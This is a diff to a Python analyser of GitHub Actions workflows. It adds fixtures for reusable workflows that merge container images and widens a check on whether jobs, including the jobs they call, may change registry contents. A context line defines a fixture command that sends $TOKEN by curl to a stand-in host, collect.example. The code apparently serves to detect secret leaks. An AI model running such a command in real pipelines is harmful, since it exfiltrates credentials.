@@ -116,6 +116,22 @@ jobs:
       - uses: docker/build-push-action@53b7df96c91f9c12dcc8a07bcb9ccacbed38856a # v7.3.0
         with: {push: %s, tags: lumen/lumen}
 """
+_MERGING = """\
+on: {push: {branches: [main]}}
+jobs:
+  merge:
+    uses: ./.github/workflows/merge.yml
+    secrets:
+      HUB_TOKEN: ${{ secrets.HUB_TOKEN }}%s
+"""
+_MERGE = """\
+on: {workflow_call: {secrets: {HUB_TOKEN: {required: true}}}}
+jobs:
+  merge:
+    runs-on: ubuntu-latest
+    steps:
+      - run: %s
+"""
 _SEND = "curl --data @- https://collect.example <<< $TOKEN"
 _ASK = "curl -H @auth https://registry.npmjs.example/-/whoami"
 
@@ -149,6 +165,22 @@ def _beside(name: str, release: str, *other: str, outcome: Outcome | None = None
             workflow=_LOGIN % ("publish", "", "true"),
             files={".github/workflows/test.yml": _LOGIN % ("test", "  # !", "false")},
             severity=Severity.MEDIUM,
+        ),
+        Example(
+            name="a called workflow that may merge images",
+            workflow=_LOGIN % ("publish", "", "true"),
+            files={
+                ".github/workflows/merging.yml": _MERGING % "",
+                ".github/workflows/merge.yml": _MERGE % "python -m lumen.merge_tags",
+            },
+        ),
+        Example(
+            name="a called workflow that runs nothing of the project",
+            workflow=_LOGIN % ("publish", "", "true"),
+            files={
+                ".github/workflows/merging.yml": _MERGING % "  # !",
+                ".github/workflows/merge.yml": _MERGE.replace("run: %s", "uses: acme/notes@v1"),
+            },
         ),
         Example(name="nothing but releases", workflow=_RELEASE),
         Example(
@@ -198,7 +230,8 @@ def _busy(repo: Repository) -> frozenset[Job]:
     found = {publication.job for publication in repo.publications}
     for publication in repo.publications:
         found |= {call for route in publication.routes for call in route.calls}
-    found |= {unrecognized.job for unrecognized in repo.graph.unrecognized}
+    for unrecognized in repo.graph.unrecognized:
+        found |= {unrecognized.job, *(call for r in unrecognized.routes for call in r.calls)}
     return frozenset(found | set(repo.graph.hidden_calls))
 
 
@@ -215,7 +248,7 @@ def _of_workflow(
 def _of_job(
     repo: Repository, workflow: Workflow, job: Job, used: Mapping[str, tuple[Publication, ...]]
 ) -> Iterator[Finding]:
-    if _may_handle_images(job):
+    if _may_handle_images(repo, job):
         used = {
             name: tuple(p for p in ps if Trait.IS_PACKAGE in p.info.traits)
             for name, ps in used.items()
@@ -235,11 +268,16 @@ def _of_job(
             yield _finding(job, read.secret, at, repo.publications, sent=True)
 
 
-def _may_handle_images(job: Job) -> bool:
-    """Whether a script may change what a container registry holds, in ways that no text tells:
-    tags are merged, copied, signed and deleted by programs of all kinds.
+def _may_handle_images(repo: Repository, job: Job) -> bool:
+    """Whether a script of a job, or of the jobs that it calls, may change what a container
+    registry holds, in ways that no text tells: tags are merged, copied, signed and deleted by
+    programs of all kinds.
     """
-    return any(step.run is not None for step in job.live_steps)
+    runs = [job]
+    if job.uses is not None:
+        routes = repo.graph.routes.items()
+        runs += [inner for inner, ways in routes if any(job in way.calls for way in ways)]
+    return any(step.run is not None for each in runs for step in each.live_steps)
 
 
 def _finding(
